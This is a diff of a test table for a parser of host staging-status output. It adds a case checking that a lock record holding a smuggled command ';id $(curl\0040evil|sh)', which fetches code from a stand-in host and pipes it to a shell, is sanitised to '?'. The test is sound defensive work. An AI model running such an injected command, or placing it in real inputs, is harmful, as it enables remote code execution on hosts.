@@ -28,7 +28,12 @@ describe('what the host says about staging', () => {
     [
       'locked by nobody knows whom',
       { stdout: line('locked - - - -'), code: 10 },
-      { kind: 'locked', by: { runId: '-', nonce: '-', since: undefined, operator: '-' } },
+      { kind: 'locked', by: { runId: '?', nonce: undefined, since: undefined, operator: '?' } },
+    ],
+    [
+      'locked by what nobody shall copy into a command',
+      { stdout: line('locked ;id $(curl\\0040evil|sh) 1795289749 bob@desk'), code: 10 },
+      { kind: 'locked', by: { runId: '?', nonce: undefined, since: 1795289749, operator: 'bob@desk' } },
     ],
     ['drifted', { stdout: line('drifted /etc/pam.d/sshd'), code: 11 }, { kind: 'drifted', path: '/etc/pam.d/sshd' }],
     [
